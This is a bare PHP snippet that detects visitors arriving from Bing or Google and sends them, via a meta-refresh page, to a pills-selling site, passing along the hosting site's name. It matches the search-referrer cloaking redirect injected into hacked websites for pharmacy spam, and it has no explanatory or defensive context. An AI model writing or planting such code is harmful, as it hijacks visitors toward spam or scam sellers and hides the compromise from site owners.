<?php
$from = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
if (stripos($from, 'bing.') !== false || stripos($from, 'google.') !== false) {
    print '<html><head><meta http-equiv="refresh" content="1; url=https://pills-outlet.example/?s=' . $_SERVER['HTTP_HOST'] . '"></head></html>';
    exit;
}
